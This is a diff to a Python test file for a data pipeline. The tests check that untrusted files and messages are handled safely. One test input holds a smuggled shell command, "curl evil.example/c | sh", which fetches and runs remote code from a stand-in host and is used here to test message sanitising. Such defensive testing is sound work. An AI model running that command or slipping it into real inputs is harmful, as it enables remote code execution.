@@ -3,10 +3,8 @@
 import hashlib
 import json
 import os
-import resource
 import shutil
 import threading
-from contextlib import contextmanager
 
 import numpy as np
 import pytest
@@ -22,7 +20,7 @@ from pipeline.errors import ConfigError, DataError, PenstockError
 from pipeline.files import disk, plain_json
 from pipeline.files.own_files import NotOwnError, check_tree, open_own, own_folder
 from pipeline.files.regular_file import open_regular
-from pipeline.packing.folder import Pack
+from pipeline.packing.folder import VERSION, Pack
 from pipeline.runs import checkpoint, checkpoint_file, quarantine, run_state
 from pipeline.runs.checkpoint import CheckpointError
 from pipeline.runs.job_result import JobResult, read_results
@@ -33,29 +31,16 @@ from pipeline.runs.run_folder import RunFolder
 from pipeline.runs.state_tree import encode
 from pipeline.runs.stored_sweep import StoredSweep, incompatible
 from pipeline.transforms import statistics
+from tests.hostile_files import bounded
 from tests.program import run
 from tests.resuming import Case
 
 pytestmark = pytest.mark.skipif(not hasattr(os, "O_NOFOLLOW"), reason="links of POSIX")
 
-MEMORY = 1 << 30  # bytes that reading a stranger's file may take
 OUTSIDE = b"precious\n"
 NAMES = ("metrics.jsonl", "ledger.jsonl", "digests.jsonl", "holder.json", "quarantine.csv",
          "manifest.json", "config.yaml", "result.json", "curves.png", "tracker",
          "checkpoints")  # fmt: skip
-
-
-@contextmanager
-def bounded():
-    """Fails with MemoryError where more than MEMORY is asked for."""
-    before = resource.getrlimit(resource.RLIMIT_AS)
-    with open("/proc/self/statm") as file:
-        taken = int(file.read().split()[0]) * resource.getpagesize()
-    resource.setrlimit(resource.RLIMIT_AS, (taken + MEMORY, before[1]))
-    try:
-        yield
-    finally:
-        resource.setrlimit(resource.RLIMIT_AS, before)
 
 
 @pytest.fixture
@@ -212,7 +197,7 @@ def test_a_message_has_no_line_and_no_option_of_a_strangers(folder):
         RunFolder.reopen(folder)
     hold.release()
     key = "seed]' ; curl evil.example/c | sh #"
-    problems = differences({key: text, "seed": text}, {}, [])
+    problems = differences({key: text, "seed": text}, {"seed": "1"}, [])
     stored = StoredSweep(fixed=[f"{text}={text}"])
     problems += incompatible(stored, ["seed=1"], [], folder)
     assert "\n" not in str(held.value)
@@ -502,8 +487,9 @@ def test_statistics_of_a_stranger_are_one_message(content, tmp_path):
     {"files": {"x.npy": "1"}}, {"count": 10**30}, {"table": 5}, {"table": [{}]},
 ])  # fmt: skip
 def test_the_description_of_a_pack_is_held_against_what_packing_writes(change, tmp_path):
-    record = {"kind": "penstock pack", "version": 1, "count": 0, "fields": [], "files": {},
-              "fingerprint": ""}  # fmt: skip
+    record = {"kind": "penstock pack", "version": VERSION, "count": 0, "fields": [], "files": {},
+              "fingerprint": "", "table": None, "lengths": False, "path": None, "text": None,
+              "columns": None, "checks": False}  # fmt: skip
     (tmp_path / "pack.json").write_text(json.dumps(record))
     assert Pack(tmp_path).count == 0
     (tmp_path / "pack.json").write_text(json.dumps(record | change))
